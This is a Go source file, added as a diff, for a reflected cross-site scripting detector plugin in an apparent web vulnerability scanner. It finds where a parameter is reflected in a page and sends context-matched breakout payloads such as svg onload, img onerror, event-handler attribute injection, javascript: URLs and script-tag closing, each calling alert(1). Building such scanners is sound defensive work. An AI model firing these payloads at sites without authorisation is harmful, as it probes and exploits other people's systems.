@@ -0,0 +1,258 @@
+package xss
+
+import (
+	"context"
+	"fmt"
+	"net/http"
+	"strings"
+	"time"
+
+	"github.com/dronesec/droneriskscan/internal/detector"
+	"github.com/dronesec/droneriskscan/internal/transport"
+	"github.com/dronesec/droneriskscan/pkg/models"
+)
+
+// XSSDetector 反射型XSS检测器 - 先定位反射上下文，再发送对应的逃逸payload
+type XSSDetector struct {
+	*detector.BasePlugin
+	requestModifier *detector.RequestModifier
+	paramExtractor  *detector.ParameterExtractor
+}
+
+// NewXSSDetector 创建反射型XSS检测器
+func NewXSSDetector(httpClient transport.HTTPClient) *XSSDetector {
+	base := detector.NewBasePlugin(
+		"xss-detector",
+		detector.PluginTypeActive,
+		models.CategoryXSS,
+		models.SeverityMedium,
+	)
+
+	base.SetDescription("检测反射型XSS漏洞，基于反射上下文生成逃逸payload")
+	base.SetAuthor("DroneRiskScan Team")
+	base.SetVersion("1.0.0")
+	base.SetHTTPClient(httpClient)
+
+	return &XSSDetector{
+		BasePlugin:      base,
+		requestModifier: detector.NewRequestModifier(httpClient),
+		paramExtractor:  detector.NewParameterExtractor(),
+	}
+}
+
+// SetSessionCookies 设置会话Cookie
+func (x *XSSDetector) SetSessionCookies(cookies []*http.Cookie) {
+	x.requestModifier.SetSessionCookies(cookies)
+}
+
+// BreakoutPayload 上下文逃逸payload
+type BreakoutPayload struct {
+	Value       string // 实际发送的值
+	Proof       string // 响应中必须原样出现的片段
+	Description string
+}
+
+// Execute 执行反射型XSS检测
+func (x *XSSDetector) Execute(ctx context.Context, target *detector.ScanTarget) (*detector.DetectionResult, error) {
+	result := &detector.DetectionResult{
+		IsVulnerable:    false,
+		Vulnerabilities: []*models.Vulnerability{},
+		Evidence:        []detector.Evidence{},
+		Metadata:        make(map[string]interface{}),
+	}
+
+	injectPoints := x.paramExtractor.ExtractParameters(target)
+	if len(injectPoints) == 0 {
+		result.Metadata["message"] = "未发现可注入参数"
+		return result, nil
+	}
+
+	fmt.Printf("[INFO] XSS检测器找到 %d 个注入点\n", len(injectPoints))
+
+	reflected := 0
+	for _, point := range injectPoints {
+		select {
+		case <-ctx.Done():
+			return result, ctx.Err()
+		default:
+		}
+
+		// 1. 发送唯一标记，定位反射位置
+		canary := newCanary()
+		body, err := x.send(ctx, target, point, canary)
+		if err != nil {
+			continue
+		}
+
+		reflections := LocateReflections(body, canary)
+		if len(reflections) == 0 {
+			continue
+		}
+		reflected++
+
+		fmt.Printf("[DEBUG] 参数 %s 在 %d 处被反射\n", point.Name, len(reflections))
+
+		// 2. 针对每种上下文发送逃逸payload
+		tested := make(map[string]bool)
+		for _, reflection := range reflections {
+			if tested[reflection.Key()] {
+				continue
+			}
+			tested[reflection.Key()] = true
+
+			if vuln := x.testBreakout(ctx, target, point, reflection); vuln != nil {
+				result.IsVulnerable = true
+				result.Vulnerabilities = append(result.Vulnerabilities, vuln)
+				result.Evidence = append(result.Evidence, detector.Evidence{
+					Type:        detector.EvidenceTypePattern,
+					Description: fmt.Sprintf("参数 %s 的payload在 %s 上下文中未被编码", point.Name, reflection.Context),
+					Data:        vuln.Payload,
+					Confidence:  vuln.Confidence,
+				})
+				fmt.Printf("[SUCCESS] 发现反射型XSS漏洞: %s (%s)\n", point.Name, reflection.Context)
+				break
+			}
+		}
+	}
+
+	result.Metadata["tested_parameters"] = len(injectPoints)
+	result.Metadata["reflected_parameters"] = reflected
+	result.Metadata["detection_time"] = time.Now().Format(time.RFC3339)
+	result.Metadata["vulnerabilities_found"] = len(result.Vulnerabilities)
+
+	return result, nil
+}
+
+// testBreakout 发送上下文相关的逃逸payload并确认其未被编码
+func (x *XSSDetector) testBreakout(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint, reflection Reflection) *models.Vulnerability {
+	canary := newCanary()
+
+	for _, payload := range BuildBreakoutPayloads(reflection, canary) {
+		fmt.Printf("[DEBUG] 测试XSS payload: %s\n", payload.Value)
+
+		body, err := x.send(ctx, target, point, payload.Value)
+		if err != nil {
+			continue
+		}
+
+		if !strings.Contains(strings.ToLower(body), strings.ToLower(payload.Proof)) {
+			continue
+		}
+
+		return models.NewVulnerabilityBuilder().
+			WithType(models.VulnXSSReflected).
+			WithCategory(models.CategoryXSS).
+			WithSeverity(models.SeverityMedium).
+			WithTitle("Reflected Cross-Site Scripting").
+			WithDescription(fmt.Sprintf("参数 %s 的输入在 %s 上下文中被原样输出，可以逃逸并执行脚本", point.Name, reflection.Context)).
+			WithURL(target.URL.String()).
+			WithMethod(target.Method).
+			WithParameter(point.Name, point.Position).
+			WithPayload(payload.Value).
+			WithEvidence(fmt.Sprintf("%s: 响应中出现未编码片段 %s", payload.Description, payload.Proof)).
+			WithConfidence(0.90).
+			WithPlugin(x.Name()).
+			WithCWE("CWE-79").
+			WithCVSS(6.1).
+			WithSolution("根据输出上下文进行HTML实体、属性、JavaScript或URL编码，并部署内容安全策略(CSP)").
+			WithReferences([]string{
+				"https://owasp.org/www-community/attacks/xss/",
+				"https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html",
+			}).
+			WithMetadata("context", string(reflection.Context)).
+			WithMetadata("tag", reflection.TagName).
+			WithMetadata("attribute", reflection.AttrName).
+			Build()
+	}
+
+	return nil
+}
+
+// send 修改注入点并读取响应体
+func (x *XSSDetector) send(ctx context.Context, target *detector.ScanTarget, point detector.InjectPoint, value string) (string, error) {
+	resp, err := x.requestModifier.ModifyParameter(ctx, target, point, value)
+	if err != nil {
+		return "", err
+	}
+	defer resp.Body.Close()
+
+	helper := transport.NewResponseHelper()
+	body, err := helper.ReadBody(resp)
+	if err != nil {
+		return "", err
+	}
+	return string(body), nil
+}
+
+// BuildBreakoutPayloads 根据反射上下文构造逃逸payload
+func BuildBreakoutPayloads(reflection Reflection, canary string) []BreakoutPayload {
+	tag := fmt.Sprintf("<svg class=%s onload=alert(1)>", canary)
+	var payloads []BreakoutPayload
+
+	switch reflection.Context {
+	case ContextHTMLText:
+		prefix := ""
+		if reflection.TagName != "" {
+			prefix = "</" + reflection.TagName + ">"
+		}
+		payloads = append(payloads,
+			BreakoutPayload{Value: prefix + tag, Proof: prefix + tag, Description: "HTML标签注入"},
+			BreakoutPayload{
+				Value:       prefix + fmt.Sprintf("<img src=x class=%s onerror=alert(1)>", canary),
+				Proof:       prefix + fmt.Sprintf("<img src=x class=%s onerror=alert(1)>", canary),
+				Description: "HTML标签注入(img)",
+			},
+		)
+
+	case ContextAttribute, ContextURL:
+		q := ""
+		if reflection.Quote != 0 {
+			q = string(reflection.Quote)
+		}
+		if reflection.Context == ContextURL {
+			js := "javascript:alert(1)//" + canary
+			payloads = append(payloads, BreakoutPayload{Value: js, Proof: q + js, Description: "javascript:伪协议"})
+		}
+		if reflection.InAttrKey {
+			handler := fmt.Sprintf("onmouseover=alert(1) data-%s", canary)
+			payloads = append(payloads,
+				BreakoutPayload{Value: "x " + handler, Proof: "x " + handler, Description: "属性名注入事件处理器"},
+				BreakoutPayload{Value: ">" + tag, Proof: ">" + tag, Description: "闭合标签后注入"},
+			)
+			break
+		}
+		if q == "" {
+			// 无引号属性值以空白结束，空格后即可注入新属性
+			handler := fmt.Sprintf("x onmouseover=alert(1) autofocus onfocus=alert(1) data-%s", canary)
+			payloads = append(payloads,
+				BreakoutPayload{Value: handler, Proof: handler, Description: "空白逃逸无引号属性值注入事件处理器"},
+				BreakoutPayload{Value: "x>" + tag, Proof: "x>" + tag, Description: "闭合标签后注入"},
+			)
+			break
+		}
+		handler := fmt.Sprintf("%s autofocus onfocus=alert(1) data-%s=%s", q, canary, q)
+		payloads = append(payloads,
+			BreakoutPayload{Value: handler, Proof: fmt.Sprintf("%s autofocus onfocus=alert(1) data-%s=", q, canary), Description: "逃逸属性值注入事件处理器"},
+			BreakoutPayload{Value: q + ">" + tag, Proof: q + ">" + tag, Description: "逃逸属性值后闭合标签"},
+		)
+
+	case ContextScript:
+		closeTag := "</script>" + tag
+		switch reflection.Quote {
+		case '`':
+			payloads = append(payloads, BreakoutPayload{Value: canary + "${alert(1)}", Proof: canary + "${alert(1)}", Description: "模板字符串插值"})
+		case '\'', '"':
+			q := string(reflection.Quote)
+			payloads = append(payloads, BreakoutPayload{Value: canary + q + ";alert(1);//", Proof: canary + q + ";alert(1);//", Description: "逃逸JavaScript字符串"})
+		default:
+			payloads = append(payloads, BreakoutPayload{Value: canary + ";alert(1);//", Proof: canary + ";alert(1);//", Description: "直接注入JavaScript语句"})
+		}
+		payloads = append(payloads, BreakoutPayload{Value: closeTag, Proof: closeTag, Description: "闭合script标签"})
+
+	case ContextComment:
+		breakout := "-->" + tag + "<!--"
+		payloads = append(payloads, BreakoutPayload{Value: breakout, Proof: "-->" + tag, Description: "闭合HTML注释"})
+	}
+
+	return payloads
+}